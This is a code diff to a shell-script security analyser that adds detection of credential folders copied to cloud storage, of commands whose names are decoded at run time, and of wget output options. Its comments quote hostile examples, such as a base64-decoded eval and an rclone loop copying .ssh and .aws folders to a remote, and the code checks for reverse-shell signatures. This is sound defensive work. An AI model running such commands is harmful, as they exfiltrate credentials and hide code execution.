@@ -349,7 +349,9 @@ class ShellFlow:
             # `for rc in ~/.bashrc ~/.zshrc`: the variable takes each listed word; a start-up file among them is
             # the one its writes are judged by, else the first
             values = [self.value(ch) for ch in listed]
-            self.vars[var.text.decode("utf-8", "replace")] = next((v for v in values if c.PERSISTENCE_PATH.test(v)), values[0])[:2000]
+            # (a credential folder among them, `for d in .ssh .gnupg .aws`, is the one a copy of "$HOME/$d" is judged by)
+            self.vars[var.text.decode("utf-8", "replace")] = next((v for v in values if c.PERSISTENCE_PATH.test(v)),
+                                                                  next((v for v in values if _CRED_DIR.test(v)), values[0]))[:2000]
         for ch in n.children:
             if ch.type == "command_substitution" and _lists_env_names(self, ch):
                 flags.add("env-names")  # `for n in $(compgen -e)`: each name, whose value ${!n} is read
@@ -461,6 +463,13 @@ class ShellFlow:
         if not prog:
             return
         runs_code = prog in SHELLS or prog in INTERPRETERS or prog in ("eval", "source", ".")
+        name_node = cmd.child_by_field_name("name")
+        if (not runs_code and args and name_node is not None and name_node.children
+                and name_node.children[0].type in ("simple_expansion", "expansion", "command_substitution")
+                and "decoded" in self.substitution_flags(name_node)):
+            # `z=$(echo ZXZhbAo= | base64 -d); $z "$c"`: a program whose very name is decoded at run time (eval,
+            # sh) is hidden from a reader; what it is handed is run
+            self.emit(K.DECODE_EXEC, cmd, "A command whose name is decoded at run time runs its arguments", Severity.CRITICAL)
         if prog == "eval" or prog in SHELLS:
             self.code_string(cmd, prog, args, vals)
         if runs_code:
@@ -518,6 +527,14 @@ class ShellFlow:
                 self.cred_files.add(_key(out))
         if prog in ("scp", "rsync", "sftp") and any(c.is_strong_credential_path(v) for v in vals) and any(":" in v for v in vals):
             self.emit(K.CRED_EXFIL, cmd, f"Credential files copied off the machine with {prog}", Severity.CRITICAL)
+        if _cloud_copy(prog, vals):
+            words = [v for v in vals if not v.startswith("-")]
+            dest = words[-1]
+            if not dest.startswith(("/", "~", ".", "$")) and (":" in dest) and any(
+                    _CRED_DIR.test(v.rstrip("/")) or c.is_strong_credential_path(v) for v in words[1:-1]):
+                # `for d in .ssh .aws; do rclone copy "$HOME/$d" "remote:$(whoami)/$d"`: whole credential folders copied
+                # to a remote store (rclone/aws s3/gsutil/azcopy), wherever the remote points
+                self.emit(K.CRED_EXFIL, cmd, f"Credential folders copied off the machine with {prog}", Severity.CRITICAL)
         if prog in INTERPRETERS and "-c" in vals:
             code = vals[vals.index("-c") + 1] if vals.index("-c") + 1 < len(vals) else ""
             if "socket" in code and ("dup2" in code or "pty.spawn" in code or "subprocess" in code):
@@ -649,7 +666,8 @@ class ShellFlow:
         for i, v in enumerate(vals):
             nxt = vals[i + 1] if i + 1 < len(vals) else ""
             short = v.startswith("-") and not v.startswith("--") and len(v) > 1
-            if v in ("-o", "--output", "--output-document") or (prog == "wget" and v == "-O") or (short and v.endswith("o") and prog == "curl"):
+            if v in ("-o", "--output", "--output-document") or (prog == "wget" and short and v.endswith("O") and v != "-O-") \
+                    or (short and v.endswith("o") and prog == "curl"):  # wget -qO FILE: the options run together
                 out = nxt
             elif v.startswith("--output-document=") or v.startswith("--output="):
                 out = v.split("=", 1)[1]
@@ -919,6 +937,20 @@ def _is_decoder(prog: str, vals: list[str]) -> bool:
         return any("n-za-m" in v.lower() for v in vals)
     if prog == "printf":
         return any("\\x" in v for v in vals)
+    return False
+
+
+def _cloud_copy(prog: str, vals: list[str]) -> bool:
+    """rclone copy/sync/move, aws s3 cp/sync/mv, gsutil cp/rsync, azcopy copy/sync: a copy to remote storage."""
+    words = [v for v in vals if not v.startswith("-")]
+    if prog == "rclone":
+        return len(words) >= 3 and words[0] in ("copy", "sync", "move", "copyto", "moveto", "bisync")
+    if prog == "aws":
+        return len(words) >= 4 and words[0] == "s3" and words[1] in ("cp", "sync", "mv")
+    if prog == "gsutil":
+        return len(words) >= 3 and words[0] in ("cp", "rsync", "mv")
+    if prog == "azcopy":
+        return len(words) >= 3 and words[0] in ("copy", "cp", "sync")
     return False
 
 
